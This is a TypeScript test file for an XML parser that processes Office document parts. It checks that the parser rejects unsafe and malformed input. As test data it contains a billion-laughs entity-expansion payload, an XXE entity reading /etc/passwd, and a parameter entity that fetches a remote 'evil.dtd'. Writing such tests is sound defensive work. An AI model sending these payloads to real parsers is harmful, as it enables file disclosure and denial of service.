import { describe, expect, it } from 'vitest';
import { AppError } from '../errors.js';
import { parseXml, type XmlLimits } from './xml.js';

const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';

/** Elements as "uri|local" and texts, in document order. */
function events(xml: string | Uint8Array, limits: Partial<XmlLimits> = {}): string[] {
  const out: string[] = [];
  parseXml(
    typeof xml === 'string' ? new TextEncoder().encode(xml) : xml,
    'part.xml',
    {
      open: (el) => out.push(`<${el.uri}|${el.local}${el.attributes.map((a) => ` ${a.uri}|${a.local}=${a.value}`).join('')}>`),
      close: (el) => out.push(`</${el.local}>`),
      text: (text) => out.push(text),
    },
    limits,
  );
  return out;
}

function refusal(xml: string | Uint8Array, limits: Partial<XmlLimits> = {}): { code: string; detail: string } | 'no error' {
  try {
    events(xml, limits);
    return 'no error';
  } catch (err) {
    if (!(err instanceof AppError)) throw err;
    return { code: err.code, detail: err.detail ?? '' };
  }
}

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<w:document xmlns:w="${W}"><w:t>&lol9;</w:t></w:document>`;

describe('parseXml', () => {
  it('names elements and attributes by namespace URI, whatever the prefix', () => {
    const prefixed = events(`<w:p xmlns:w="${W}" w:val="1"><w:t>a</w:t></w:p>`);
    const other = events(`<x:p xmlns:x="${W}" x:val="1"><x:t>a</x:t></x:p>`);
    const unprefixed = events(`<p xmlns="${W}" xmlns:w="${W}" w:val="1"><t>a</t></p>`);
    expect(prefixed).toEqual([`<${W}|p ${W}|val=1>`, `<${W}|t>`, 'a', '</t>', '</p>']);
    expect(other).toEqual(prefixed);
    expect(unprefixed).toEqual(prefixed);
  });

  it('replaces the five predefined entities and character references, and reads CDATA as text', () => {
    expect(events('<a>&amp;&lt;&gt;&quot;&apos;&#65;&#x42;&#x1F600;<![CDATA[<b>]]></a>').join('')).toContain('&<>"\'AB😀<b>');
  });

  it('reads UTF-16 with a byte order mark', () => {
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<a>مرحبا</a>', 'utf16le')]);
    expect(events(utf16)).toContain('مرحبا');
  });

  const doctypes: [string, string][] = [
    ['billion laughs', BILLION_LAUGHS],
    ['an external entity', `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><d>&xxe;</d>`],
    ['a parameter entity fetching a URL', `<!DOCTYPE d [<!ENTITY % remote SYSTEM "http://example.org/evil.dtd"> %remote;]><d/>`],
    ['an external DTD', `<!DOCTYPE d SYSTEM "http://example.org/d.dtd"><d/>`],
    ['a bare DOCTYPE', '<!DOCTYPE html><html/>'],
  ];
  it.each(doctypes)('refuses a DOCTYPE: %s', (_label, xml) => {
    const result = refusal(xml);
    expect(result).toMatchObject({
      code: 'upload.unsafe',
      detail: 'part.xml has a DOCTYPE declaration, which Office documents never contain',
    });
  });

  it('never expands or fetches an entity, even if the DOCTYPE check were absent: an undeclared entity is an error', () => {
    expect(refusal('<d>&xxe;</d>')).toMatchObject({
      code: 'upload.damaged',
      detail: expect.stringMatching(/part\.xml is not well-formed XML/),
    });
  });

  it('bounds the nesting depth', () => {
    const nested = (depth: number) => '<a>'.repeat(depth) + '</a>'.repeat(depth);
    expect(refusal(nested(256))).toBe('no error');
    expect(refusal(nested(257))).toMatchObject({ code: 'upload.unsafe', detail: 'part.xml nests elements more than 256 deep' });
    expect(refusal(nested(10), { maxDepth: 9 })).toMatchObject({ code: 'upload.unsafe' });
  });

  it('bounds the amount of text', () => {
    expect(refusal('<a>0123456789</a>', { maxTextChars: 10 })).toBe('no error');
    expect(refusal('<a>0123456789<b>x</b></a>', { maxTextChars: 10 })).toMatchObject({
      code: 'upload.unsafe',
      detail: expect.stringMatching(/more than 10 characters/),
    });
  });

  const malformed: [string, string | Uint8Array][] = [
    ['mismatched tags', '<a><b></a>'],
    ['a truncated part', '<a><b>text'],
    ['not XML at all', 'hello'],
    ['an unbound prefix', '<w:p/>'],
    ['invalid UTF-8', new Uint8Array([0x3c, 0x61, 0x3e, 0xff, 0xfe, 0x3c, 0x2f, 0x61, 0x3e])],
  ];
  it.each(malformed)('calls %s damaged', (_label, xml) => {
    expect(refusal(xml)).toMatchObject({ code: 'upload.damaged', detail: expect.stringMatching(/^part\.xml is not/) });
  });
});
